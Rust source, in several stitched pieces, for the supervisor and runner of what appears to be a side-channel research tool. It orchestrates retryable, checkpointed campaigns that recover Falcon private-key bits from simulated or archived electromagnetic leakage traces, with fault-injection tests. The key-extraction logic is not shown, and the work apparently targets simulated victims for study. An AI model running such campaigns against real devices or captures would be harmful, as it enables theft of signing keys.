        return Some(JobState::Paused);
    }
    if let Some(info) = s.running.get_mut(&spec.name) {
        // ct: allow(slice stopwatch restart; times workers, not modelled leakage)
        info.started = Instant::now();
        info.step_deadline_ms = spec.step_deadline_ms;
        info.overdue = false;
    }
    None
}

/// The shared fault path: count the retry, then either back off and
/// re-queue, or degrade once the budget is spent.
fn fault(shared: &Shared, spec: &JobSpec, status: &mut JobStatus, err: &Error) -> Result<After> {
    status.retries += 1;
    status.last_error = err.to_string();
    obs::metrics().counter("orch.faults").incr();
    if status.retries > spec.max_retries {
        let why = format!(
            "retry budget exhausted after {} faults; last: {}",
            status.retries, status.last_error
        );
        return degrade(shared, &spec.name, status, &why);
    }
    status.state = JobState::Queued;
    shared.store.write_status(&spec.name, status)?;
    let backoff = Backoff {
        base_ms: spec.backoff_base_ms,
        cap_ms: spec.backoff_cap_ms,
        seed: seed_from_name(&spec.name),
    };
    let delay = backoff.delay_ms(status.retries - 1);
    obs::metrics().counter("orch.retries").incr();
    let (n, retries, msg) =
        (spec.name.clone(), u64::from(status.retries), status.last_error.clone());
    obs::emit(move || {
        obs::Event::new("orch.retry")
            .with_str("job", n.clone())
            .with_u64("retries", retries)
            .with_u64("delay_ms", delay)
            .with_str("error", msg.clone())
    });
    Ok(After::Delay(delay))
}

/// Parks a job as degraded: partial per-coefficient progress stays in
/// its checkpoint, and an operator `resume` re-arms it.
fn degrade(shared: &Shared, name: &str, status: &mut JobStatus, why: &str) -> Result<After> {
    status.state = JobState::Degraded;
    status.last_error = why.to_string();
    shared.store.write_status(name, status)?;
    obs::metrics().counter("orch.degraded").incr();
    let (n, why) = (name.to_string(), why.to_string());
    let (traces, rec) = (status.traces_requested, status.recovered);
    obs::emit(move || {
        obs::Event::new("orch.degraded")
            .with_str("job", n.clone())
            .with_str("reason", why.clone())
            .with_u64("traces_requested", traces)
            .with_u64("recovered", rec)
    });
    Ok(After::Drop)
}

fn watchdog_loop(shared: &Shared, cfg: SupervisorConfig) {
    let tick = Duration::from_millis(cfg.watchdog_interval_ms.max(1));
    loop {
        std::thread::sleep(tick);
        let mut s = shared.lock();
        if s.shutdown {
            return;
        }
        if promote_due(&mut s) > 0 {
            shared.cv.notify_all();
        }
        // ct: allow(watchdog deadline scan; times workers, not modelled leakage)
        let now = Instant::now();
        for (name, info) in s.running.iter_mut() {
            let over = info.step_deadline_ms > 0
                && !info.overdue
                && now.duration_since(info.started).as_millis() as u64 > info.step_deadline_ms;
            if over {
                info.overdue = true;
                obs::metrics().counter("orch.deadline_overruns").incr();
                let (n, limit) = (name.clone(), info.step_deadline_ms);
                obs::emit(move || {
                    obs::Event::new("orch.deadline")
                        .with_str("job", n.clone())
                        .with_u64("limit_ms", limit)
                });
            }
        }
    }
}

fn payload_str(p: &(dyn std::any::Any + Send)) -> String {
    p.downcast_ref::<&str>()
        .map(|s| (*s).to_string())
        .or_else(|| p.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "worker panicked with a non-string payload".to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn tmp_dir(tag: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("falcon-orch-sup-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    fn spec(name: &str) -> JobSpec {
        JobSpec { name: name.into(), seed: format!("{name} sup seed"), ..Default::default() }
    }

    /// The bits an *uninterrupted, fault-free* run of `spec` recovers —
    /// the reference for the bit-identity contract. (Ground truth is the
    /// wrong reference under noise: a campaign can legitimately converge
    /// to a false positive, and the durability contract is about
    /// replaying the identical acquisition stream, not about accuracy.)
    fn reference_bits(spec: &JobSpec) -> Vec<u64> {
        let clean = JobSpec {
            panic_steps: Vec::new(),
            stall_steps: Vec::new(),
            stall_ms: 0,
            step_deadline_ms: 0,
            job_deadline_ms: 0,
            ..spec.clone()
        };
        let dir = tmp_dir(&format!("ref-{}", spec.name));
        let store = JobStore::open(&dir).unwrap();
        let mut rt = JobRuntime::prepare(&clean, &store).unwrap();
        let mut inj = FaultInjector::default();
        loop {
            if rt.slice(&mut inj).unwrap().done {
                break;
            }
        }
        let bits = rt.report().recovered_bits().expect("reference run must converge");
        let _ = std::fs::remove_dir_all(&dir);
        bits
    }

    /// Installs (once) a panic hook that silences panics on supervisor
    /// worker threads — the injected faults below are deliberate — while
    /// leaving test-thread assertion failures fully reported.
    fn quiet_worker_panics() {
        static ONCE: std::sync::Once = std::sync::Once::new();
        ONCE.call_once(|| {
            let prev = std::panic::take_hook();
            std::panic::set_hook(Box::new(move |info| {
                let on_worker =
                    std::thread::current().name().is_some_and(|n| n.starts_with("orch-worker"));
                if !on_worker {
                    prev(info);
                }
            }));
        });
    }

    #[test]
    fn two_jobs_converge_concurrently_to_the_true_keys() {
        let dir = tmp_dir("pair");
        let sup =
            Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default()).unwrap();
        sup.submit(&spec("pair-a")).unwrap();
        sup.submit(&spec("pair-b")).unwrap();
        for name in ["pair-a", "pair-b"] {
            let st = sup.wait_settled(name, 60_000).unwrap();
            assert_eq!(st.state, JobState::Done, "{name}: {}", st.last_error);
            let truth = spec(name).build_victim().unwrap().truth;
            assert_eq!(st.bits, truth, "{name} must recover the true key");
        }
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn injected_panics_are_retried_and_the_sibling_job_survives() {
        quiet_worker_panics();
        let dir = tmp_dir("panic");
        let sup =
            Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default()).unwrap();
        // Batches 0 and 1 always run (a coefficient needs at least two
        // stable batch evaluations to converge), so both faults fire.
        let faulty = JobSpec { panic_steps: vec![0, 1], ..spec("panic-faulty") };
        sup.submit(&faulty).unwrap();
        sup.submit(&spec("panic-clean")).unwrap();
        let st = sup.wait_settled("panic-faulty", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "{}", st.last_error);
        assert_eq!(st.retries, 2, "both injected panics must be absorbed");
        assert_eq!(st.bits, reference_bits(&faulty), "retried run must be bit-identical");
        let st = sup.wait_settled("panic-clean", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "sibling must be unaffected");
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn retry_budget_exhaustion_degrades_and_resume_rearms() {
        quiet_worker_panics();
        let dir = tmp_dir("degrade");
        let sup =
            Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default()).unwrap();
        let s = JobSpec { panic_steps: vec![0, 1], max_retries: 1, ..spec("degrade-a") };
        sup.submit(&s).unwrap();
        let st = sup.wait_settled("degrade-a", 60_000).unwrap();
        assert_eq!(st.state, JobState::Degraded, "{}", st.last_error);
        assert!(st.last_error.contains("retry budget exhausted"), "{}", st.last_error);
        // Partial progress survived the degradation.
        assert!(sup.store().checkpoint_path("degrade-a").exists());
        // Resume re-arms the budget; both faults already fired, so the
        // job now runs clean to completion.
        sup.resume("degrade-a").unwrap();
        let st = sup.wait_settled("degrade-a", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "{}", st.last_error);
        assert_eq!(st.bits, reference_bits(&s), "resumed run must be bit-identical");
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn stalled_slice_overruns_its_deadline_then_recovers() {
        let dir = tmp_dir("deadline");
        let sup =
            Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default()).unwrap();
        let s = JobSpec {
            stall_steps: vec![1],
            stall_ms: 120,
            step_deadline_ms: 40,
            ..spec("deadline-a")
        };
        sup.submit(&s).unwrap();
        let st = sup.wait_settled("deadline-a", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "{}", st.last_error);
        assert!(st.retries >= 1, "the stalled slice must count as a fault");
        assert!(st.last_error.contains("deadline overrun"), "{}", st.last_error);
        assert_eq!(st.bits, reference_bits(&s), "overrun retry must be bit-identical");
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn governor_sheds_the_newest_job_first() {
        let dir = tmp_dir("governor");
        let sup =
            Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default()).unwrap();
        // Stall every batch so both jobs stay in flight long enough to
        // observe the shed deterministically.
        let slow =
            |name: &str| JobSpec { stall_steps: (0..32).collect(), stall_ms: 30, ..spec(name) };
        sup.submit(&slow("gov-old")).unwrap();
        sup.wait_until("gov-old", 30_000, |st| st.state == JobState::Running).unwrap();
        sup.submit(&slow("gov-new")).unwrap();
        sup.wait_until("gov-new", 30_000, |st| st.state == JobState::Running).unwrap();
        sup.set_max_running(1);
        let st = sup.wait_until("gov-new", 30_000, |st| st.state == JobState::Paused).unwrap();
        assert_eq!(st.state, JobState::Paused, "newest job parks first");
        let st = sup.wait_settled("gov-old", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "oldest job keeps its slot: {}", st.last_error);
        // Re-admit the shed job and let it finish.
        sup.set_max_running(2);
        sup.resume("gov-new").unwrap();
        let st = sup.wait_settled("gov-new", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "{}", st.last_error);
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn cancel_parks_terminally_and_refuses_to_resume() {
        let dir = tmp_dir("cancel");
        let sup = Supervisor::start(
            JobStore::open(&dir).unwrap(),
            SupervisorConfig { max_running: 0, ..SupervisorConfig::default() },
        )
        .unwrap();
        sup.submit(&spec("cancel-a")).unwrap();
        sup.cancel("cancel-a").unwrap();
        let st = sup.status("cancel-a").unwrap();
        assert_eq!(st.state, JobState::Cancelled);
        assert!(sup.resume("cancel-a").is_err());
        assert!(sup.cancel("cancel-a").is_err());
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn drain_parks_running_jobs_and_a_fresh_supervisor_finishes_them() {
        let dir = tmp_dir("drain");
        let spec_a = JobSpec { stall_steps: (0..32).collect(), stall_ms: 20, ..spec("drain-a") };
        {
            let sup = Supervisor::start(JobStore::open(&dir).unwrap(), SupervisorConfig::default())
                .unwrap();
            sup.submit(&spec_a).unwrap();
            sup.wait_until("drain-a", 30_000, |st| st.state == JobState::Running).unwrap();
            sup.drain();
        }
        let store = JobStore::open(&dir).unwrap();
        let st = store.read_status("drain-a").unwrap();
        assert_eq!(st.state, JobState::Queued, "drained jobs park back to queued");
        // A fresh supervisor picks the job up from its checkpoint.
        let sup = Supervisor::start(store, SupervisorConfig::default()).unwrap();
        let st = sup.wait_settled("drain-a", 60_000).unwrap();
        assert_eq!(st.state, JobState::Done, "{}", st.last_error);
        assert_eq!(st.bits, reference_bits(&spec_a), "restarted run must be bit-identical");
        sup.drain();
        let _ = std::fs::remove_dir_all(&dir);
    }
}
