//! The synchronous job-advancement engine the supervisor's workers
//! drive (and torture tests drive directly).
//!
//! A [`JobRuntime`] owns everything one job needs in memory — the
//! reconstructed victim bench and the resumable campaign — and advances
//! it one *slice* (a bounded number of campaign batches) at a time,
//! checkpointing through the [`JobStore`] after every slice. Because
//! the campaign checkpoint embeds the device and message-stream
//! positions, a runtime rebuilt from any checkpoint replays the exact
//! same acquisition stream: a job that crashed at *any* boundary
//! converges to recovered key bits identical to an uninterrupted run.
//!
//! Fault injection lives here too: a [`FaultInjector`] deterministically
//! fires the panics and stalls a [`JobSpec`] asks for, so the
//! supervisor's retry/backoff/deadline machinery is exercised by tests
//! without any OS-level trickery.

use crate::campaign::{Campaign, CampaignReport};
use crate::error::Result;
use crate::obs;
use crate::orch::job::{JobSpec, Victim};
use crate::orch::store::JobStore;
use std::collections::BTreeSet;

/// What one supervision slice accomplished.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SliceOutcome {
    /// Campaign batches actually run.
    pub steps: u32,
    /// The campaign finished (converged or budget-exhausted).
    pub done: bool,
    /// Every targeted coefficient converged.
    pub complete: bool,
    /// Cumulative captures requested.
    pub traces_requested: usize,
    /// Converged coefficients so far.
    pub recovered: usize,
}

/// Per-process memory of which injected faults already fired, so a
/// retried slice passes where the first attempt deliberately failed.
/// (Intentionally *not* persisted: a restarted daemon re-fires its
/// injected faults, which is exactly what the torture tests want.)
#[derive(Debug, Default)]
pub struct FaultInjector {
    fired_panics: BTreeSet<u64>,
    fired_stalls: BTreeSet<u64>,
}

impl FaultInjector {
    /// Fires any fault the spec schedules for batch index `batch`:
    /// a stall (sleep) first, then a panic. Each index fires once per
    /// injector.
    fn fire(&mut self, spec: &JobSpec, batch: u64) {
        if spec.stall_steps.contains(&batch) && self.fired_stalls.insert(batch) {
            obs::metrics().counter("orch.injected_stalls").incr();
            std::thread::sleep(std::time::Duration::from_millis(spec.stall_ms));
        }
        if spec.panic_steps.contains(&batch) && self.fired_panics.insert(batch) {
            obs::metrics().counter("orch.injected_panics").incr();
            panic!("injected fault: panic at batch {batch} of job {}", spec.name);
        }
    }
}

/// One job's in-memory execution state: victim bench plus campaign.
pub struct JobRuntime {
    spec: JobSpec,
    victim: Victim,
    campaign: Campaign,
    /// Global batch index (survives rebuilds via `traces_requested`).
    batches_done: u64,
}

impl JobRuntime {
    /// Reconstructs a job's runtime: builds the seeded victim and either
    /// resumes the persisted checkpoint (rewinding the device and
    /// message streams to their checkpointed positions) or starts a
    /// fresh campaign.
    ///
    /// # Errors
    ///
    /// Propagates spec validation, checkpoint parse and campaign
    /// construction errors.
    pub fn prepare(spec: &JobSpec, store: &JobStore) -> Result<JobRuntime> {
        spec.validate()?;
        let mut victim = spec.build_victim()?;
        let ckpt = store.checkpoint_path(&spec.name);
        let campaign = if ckpt.exists() {
            Campaign::resume_from_path(
                spec.campaign_config(),
                &mut victim.device,
                &mut victim.msgs,
                &ckpt,
            )?
        } else {
            Campaign::new(spec.n(), spec.campaign_config())?
        };
        let batches_done = (campaign.traces_requested() as u64).div_ceil(spec.batch_size as u64);
        Ok(JobRuntime { spec: spec.clone(), victim, campaign, batches_done })
    }

    /// The job's spec.
    pub fn spec(&self) -> &JobSpec {
        &self.spec
    }

    /// The campaign's current (possibly partial) report.
    pub fn report(&self) -> CampaignReport {
        self.campaign.report()
    }

    /// Ground-truth `FFT(f)` bits of the simulated victim.
    pub fn truth(&self) -> &[u64] {
        &self.victim.truth
    }

    /// Runs one supervision slice: up to `spec.steps_per_slice` campaign
    /// batches, with injected faults fired at their scheduled batch
    /// indices.
    ///
    /// # Errors
    ///
    /// Propagates campaign step errors; injected panics unwind (the
    /// supervisor catches them).
    pub fn slice(&mut self, injector: &mut FaultInjector) -> Result<SliceOutcome> {
        let mut steps = 0u32;
        let mut done = false;
        for _ in 0..self.spec.steps_per_slice {
            injector.fire(&self.spec, self.batches_done);
            if !self.campaign.step(&mut self.victim.device, &mut self.victim.msgs)? {
                done = true;
                break;
            }
            self.batches_done += 1;
            steps += 1;
            if self.campaign.is_done() {
                done = true;
                break;
            }
        }
        let report = self.campaign.report();
        Ok(SliceOutcome {
            steps,
            done,
            complete: report.is_complete(),
            traces_requested: self.campaign.traces_requested(),
            recovered: report.recovered_count(),
        })
    }

    /// Durably checkpoints the campaign (device and message stream
    /// positions included) through the store.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Persist`](crate::error::Error::Persist) on a
    /// failed durable write.
    pub fn checkpoint(&self, store: &JobStore) -> Result<()> {
        self.campaign.checkpoint(
            &self.victim.device,
            &self.victim.msgs,
            &store.checkpoint_path(&self.spec.name),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::panic::{catch_unwind, AssertUnwindSafe};
    use std::path::PathBuf;

    fn tmp_dir(tag: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("falcon-orch-runner-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    fn spec(name: &str) -> JobSpec {
        JobSpec { name: name.into(), seed: format!("{name} runner seed"), ..Default::default() }
    }

    #[test]
    fn uninterrupted_run_recovers_the_key() {
        let dir = tmp_dir("clean");
        let store = JobStore::open(&dir).unwrap();
        let spec = spec("runner-clean");
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        let mut inj = FaultInjector::default();
        loop {
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store).unwrap();
            if out.done {
                assert!(out.complete, "campaign should converge: {out:?}");
                break;
            }
        }
        let bits = rt.report().recovered_bits().unwrap();
        assert_eq!(bits, rt.truth());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn rebuild_from_checkpoint_is_bit_identical() {
        let dir_a = tmp_dir("ckpt-a");
        let dir_b = tmp_dir("ckpt-b");
        let store_a = JobStore::open(&dir_a).unwrap();
        let store_b = JobStore::open(&dir_b).unwrap();
        let spec = spec("runner-ckpt");
        let mut inj = FaultInjector::default();

        // Reference: run to completion in one runtime.
        let mut reference = JobRuntime::prepare(&spec, &store_a).unwrap();
        loop {
            if reference.slice(&mut inj).unwrap().done {
                break;
            }
        }
        let want = reference.report().recovered_bits().unwrap();

        // Torture: rebuild the runtime from its checkpoint after every
        // single slice (a crash at every boundary).
        let mut done = false;
        while !done {
            let mut rt = JobRuntime::prepare(&spec, &store_b).unwrap();
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store_b).unwrap();
            done = out.done;
        }
        let rt = JobRuntime::prepare(&spec, &store_b).unwrap();
        assert_eq!(rt.report().recovered_bits().unwrap(), want);
        let _ = std::fs::remove_dir_all(&dir_a);
        let _ = std::fs::remove_dir_all(&dir_b);
    }

    #[test]
    fn injected_panic_fires_once_and_the_retry_passes() {
        let dir = tmp_dir("inject");
        let store = JobStore::open(&dir).unwrap();
        let spec = JobSpec { panic_steps: vec![1], ..spec("runner-inject") };
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        let mut inj = FaultInjector::default();
        rt.slice(&mut inj).unwrap();
        rt.checkpoint(&store).unwrap();
        // Batch 1 panics on first encounter…
        let prev = std::panic::take_hook();
        std::panic::set_hook(Box::new(|_| {}));
        let r = catch_unwind(AssertUnwindSafe(|| rt.slice(&mut inj)));
        std::panic::set_hook(prev);
        assert!(r.is_err(), "injected panic must unwind");
        // …and the rebuilt runtime passes the same batch on retry.
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        let out = rt.slice(&mut inj).unwrap();
        assert_eq!(out.steps, 1);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
