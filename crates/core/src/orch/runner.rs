//! The synchronous job-advancement engine the supervisor's workers
//! drive (and torture tests drive directly).
//!
//! A [`JobRuntime`] owns everything one job needs in memory — the
//! reconstructed victim bench and the resumable campaign — and advances
//! it one *slice* (a bounded number of campaign batches) at a time,
//! checkpointing through the [`JobStore`] after every slice. Because
//! the campaign checkpoint embeds the device and message-stream
//! positions, a runtime rebuilt from any checkpoint replays the exact
//! same acquisition stream: a job that crashed at *any* boundary
//! converges to recovered key bits identical to an uninterrupted run.
//!
//! Fault injection lives here too: a [`FaultInjector`] deterministically
//! fires the panics and stalls a [`JobSpec`] asks for, so the
//! supervisor's retry/backoff/deadline machinery is exercised by tests
//! without any OS-level trickery.

use crate::campaign::{Campaign, CampaignReport, OfflineCampaign};
use crate::error::Result;
use crate::obs;
use crate::orch::job::{JobSpec, Victim};
use crate::orch::store::JobStore;
use crate::stream::StreamedDataset;
use std::collections::BTreeSet;

/// What one supervision slice accomplished.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SliceOutcome {
    /// Campaign batches actually run.
    pub steps: u32,
    /// The campaign finished (converged or budget-exhausted).
    pub done: bool,
    /// Every targeted coefficient converged.
    pub complete: bool,
    /// Cumulative captures requested.
    pub traces_requested: usize,
    /// Converged coefficients so far.
    pub recovered: usize,
}

/// Per-process memory of which injected faults already fired, so a
/// retried slice passes where the first attempt deliberately failed.
/// (Intentionally *not* persisted: a restarted daemon re-fires its
/// injected faults, which is exactly what the torture tests want.)
#[derive(Debug, Default)]
pub struct FaultInjector {
    fired_panics: BTreeSet<u64>,
    fired_stalls: BTreeSet<u64>,
}

impl FaultInjector {
    /// Fires any fault the spec schedules for batch index `batch`:
    /// a stall (sleep) first, then a panic. Each index fires once per
    /// injector.
    fn fire(&mut self, spec: &JobSpec, batch: u64) {
        if spec.stall_steps.contains(&batch) && self.fired_stalls.insert(batch) {
            obs::metrics().counter("orch.injected_stalls").incr();
            std::thread::sleep(std::time::Duration::from_millis(spec.stall_ms));
        }
        if spec.panic_steps.contains(&batch) && self.fired_panics.insert(batch) {
            obs::metrics().counter("orch.injected_panics").incr();
            panic!("injected fault: panic at batch {batch} of job {}", spec.name);
        }
    }
}

/// The two acquisition engines a job can run on: a seeded simulated
/// victim (live capture), or an archived dataset streamed from disk.
enum Engine {
    /// Simulated victim: acquisition drives the instrumented device.
    Device {
        /// The reconstructed victim bench (boxed: the device dwarfs the
        /// streamed variant).
        victim: Box<Victim>,
        /// The device-backed resumable campaign.
        campaign: Campaign,
    },
    /// Streamed archive: acquisition is a bounded-ring file read.
    Stream {
        /// The chunk-streamed dataset.
        source: StreamedDataset,
        /// The source-agnostic offline campaign.
        campaign: OfflineCampaign,
    },
}

/// One job's in-memory execution state: acquisition engine plus
/// campaign.
pub struct JobRuntime {
    spec: JobSpec,
    engine: Engine,
    /// Global batch index (survives rebuilds via `traces_requested`).
    batches_done: u64,
}

impl JobRuntime {
    /// Reconstructs a job's runtime. For a simulated job this builds
    /// the seeded victim and either resumes the persisted checkpoint
    /// (rewinding the device and message streams to their checkpointed
    /// positions) or starts a fresh campaign. For a streamed job
    /// (`spec.dataset` non-empty) it opens the archive through the
    /// prefetch ring and builds/resumes an [`OfflineCampaign`], whose
    /// checkpoints carry logical progress only — the archive itself is
    /// the replay source.
    ///
    /// # Errors
    ///
    /// Propagates spec validation, dataset open, checkpoint parse and
    /// campaign construction errors.
    pub fn prepare(spec: &JobSpec, store: &JobStore) -> Result<JobRuntime> {
        spec.validate()?;
        let ckpt = store.checkpoint_path(&spec.name);
        let engine = if spec.is_streamed() {
            let source = StreamedDataset::open(&spec.dataset, spec.ring_config())?;
            let campaign = if ckpt.exists() {
                OfflineCampaign::resume_from_path(&source, spec.campaign_config(), &ckpt)?
            } else {
                OfflineCampaign::new(&source, spec.campaign_config())?
            };
            Engine::Stream { source, campaign }
        } else {
            let mut victim = spec.build_victim()?;
            let campaign = if ckpt.exists() {
                Campaign::resume_from_path(
                    spec.campaign_config(),
                    &mut victim.device,
                    &mut victim.msgs,
                    &ckpt,
                )?
            } else {
                Campaign::new(spec.n(), spec.campaign_config())?
            };
            Engine::Device { victim: Box::new(victim), campaign }
        };
        let traces = match &engine {
            Engine::Device { campaign, .. } => campaign.traces_requested(),
            Engine::Stream { campaign, .. } => campaign.traces_requested(),
        };
        let batches_done = (traces as u64).div_ceil(spec.batch_size as u64);
        Ok(JobRuntime { spec: spec.clone(), engine, batches_done })
    }

    /// The job's spec.
    pub fn spec(&self) -> &JobSpec {
        &self.spec
    }

    /// The campaign's current (possibly partial) report.
    pub fn report(&self) -> CampaignReport {
        match &self.engine {
            Engine::Device { campaign, .. } => campaign.report(),
            Engine::Stream { campaign, .. } => campaign.report(),
        }
    }

    /// Ground-truth `FFT(f)` bits of the simulated victim. Empty for a
    /// streamed job: an archive carries no key material, only leakage.
    pub fn truth(&self) -> &[u64] {
        match &self.engine {
            Engine::Device { victim, .. } => &victim.truth,
            Engine::Stream { .. } => &[],
        }
    }

    /// Runs one supervision slice: up to `spec.steps_per_slice` campaign
    /// batches, with injected faults fired at their scheduled batch
    /// indices (faults fire identically on both engines — a streamed
    /// worker can panic or stall mid-read too).
    ///
    /// # Errors
    ///
    /// Propagates campaign step errors; injected panics unwind (the
    /// supervisor catches them).
    pub fn slice(&mut self, injector: &mut FaultInjector) -> Result<SliceOutcome> {
        let mut steps = 0u32;
        let mut done = false;
        for _ in 0..self.spec.steps_per_slice {
            injector.fire(&self.spec, self.batches_done);
            let advanced = match &mut self.engine {
                Engine::Device { victim, campaign } => {
                    campaign.step(&mut victim.device, &mut victim.msgs)?
                }
                Engine::Stream { source, campaign } => campaign.step(source)?,
            };
            if !advanced {
                done = true;
                break;
            }
            self.batches_done += 1;
            steps += 1;
            let finished = match &self.engine {
                Engine::Device { campaign, .. } => campaign.is_done(),
                Engine::Stream { campaign, .. } => campaign.is_done(),
            };
            if finished {
                done = true;
                break;
            }
        }
        let report = self.report();
        let traces_requested = match &self.engine {
            Engine::Device { campaign, .. } => campaign.traces_requested(),
            Engine::Stream { campaign, .. } => campaign.traces_requested(),
        };
        Ok(SliceOutcome {
            steps,
            done,
            complete: report.is_complete(),
            traces_requested,
            recovered: report.recovered_count(),
        })
    }

    /// Durably checkpoints the campaign through the store. A simulated
    /// job's checkpoint embeds the device and message stream positions;
    /// a streamed job's checkpoint is logical progress only.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Persist`](crate::error::Error::Persist) on a
    /// failed durable write.
    pub fn checkpoint(&self, store: &JobStore) -> Result<()> {
        let path = store.checkpoint_path(&self.spec.name);
        match &self.engine {
            Engine::Device { victim, campaign } => {
                campaign.checkpoint(&victim.device, &victim.msgs, &path)
            }
            Engine::Stream { campaign, .. } => campaign.checkpoint(&path),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::panic::{catch_unwind, AssertUnwindSafe};
    use std::path::PathBuf;

    fn tmp_dir(tag: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("falcon-orch-runner-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    fn spec(name: &str) -> JobSpec {
        JobSpec { name: name.into(), seed: format!("{name} runner seed"), ..Default::default() }
    }

    #[test]
    fn uninterrupted_run_recovers_the_key() {
        let dir = tmp_dir("clean");
        let store = JobStore::open(&dir).unwrap();
        let spec = spec("runner-clean");
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        let mut inj = FaultInjector::default();
        loop {
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store).unwrap();
            if out.done {
                assert!(out.complete, "campaign should converge: {out:?}");
                break;
            }
        }
        let bits = rt.report().recovered_bits().unwrap();
        assert_eq!(bits, rt.truth());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn rebuild_from_checkpoint_is_bit_identical() {
        let dir_a = tmp_dir("ckpt-a");
        let dir_b = tmp_dir("ckpt-b");
        let store_a = JobStore::open(&dir_a).unwrap();
        let store_b = JobStore::open(&dir_b).unwrap();
        let spec = spec("runner-ckpt");
        let mut inj = FaultInjector::default();

        // Reference: run to completion in one runtime.
        let mut reference = JobRuntime::prepare(&spec, &store_a).unwrap();
        loop {
            if reference.slice(&mut inj).unwrap().done {
                break;
            }
        }
        let want = reference.report().recovered_bits().unwrap();

        // Torture: rebuild the runtime from its checkpoint after every
        // single slice (a crash at every boundary).
        let mut done = false;
        while !done {
            let mut rt = JobRuntime::prepare(&spec, &store_b).unwrap();
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store_b).unwrap();
            done = out.done;
        }
        let rt = JobRuntime::prepare(&spec, &store_b).unwrap();
        assert_eq!(rt.report().recovered_bits().unwrap(), want);
        let _ = std::fs::remove_dir_all(&dir_a);
        let _ = std::fs::remove_dir_all(&dir_b);
    }

    #[test]
    fn streamed_job_converges_and_rebuilds_bit_identically() {
        use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
        use falcon_sig::rng::Prng;
        use falcon_sig::{KeyPair, LogN};

        let dir = tmp_dir("streamed");
        std::fs::create_dir_all(&dir).unwrap();
        // Archive a small seeded capture to disk.
        let mut rng = Prng::from_seed(b"streamed runner key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"streamed runner dev");
        let mut msgs = Prng::from_seed(b"streamed runner msgs");
        let targets: Vec<usize> = (0..8).collect();
        let ds = crate::acquire::Dataset::collect(&mut dev, &targets, 400, &mut msgs);
        let archive = dir.join("capture.fdnd");
        crate::io::atomic_write(&archive, |w| crate::io::write_dataset(&ds, w)).unwrap();

        let spec = JobSpec {
            dataset: archive.to_string_lossy().into_owned(),
            ring_chunk_bytes: 1024,
            ring_depth: 2,
            ..spec("runner-streamed")
        };
        let store = JobStore::open(dir.join("store-a")).unwrap();
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
        assert!(rt.truth().is_empty(), "archives carry no ground truth");
        let mut inj = FaultInjector::default();
        loop {
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store).unwrap();
            if out.done {
                assert!(out.complete, "streamed campaign should converge: {out:?}");
                break;
            }
        }
        let bits = rt.report().recovered_bits().unwrap();
        assert_eq!(bits, truth, "streamed recovery must match the archived victim's key");

        // Crash-at-every-boundary torture on the streamed engine.
        let store_b = JobStore::open(dir.join("store-b")).unwrap();
        let mut done = false;
        while !done {
            let mut rt = JobRuntime::prepare(&spec, &store_b).unwrap();
            let out = rt.slice(&mut inj).unwrap();
            rt.checkpoint(&store_b).unwrap();
            done = out.done;
        }
        let rt = JobRuntime::prepare(&spec, &store_b).unwrap();
        assert_eq!(rt.report().recovered_bits().unwrap(), bits);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn injected_panic_fires_once_and_the_retry_passes() {
        let dir = tmp_dir("inject");
        let store = JobStore::open(&dir).unwrap();
        let spec = JobSpec { panic_steps: vec![1], ..spec("runner-inject") };
        let mut rt = JobRuntime::prepare(&spec, &store).unwrap();
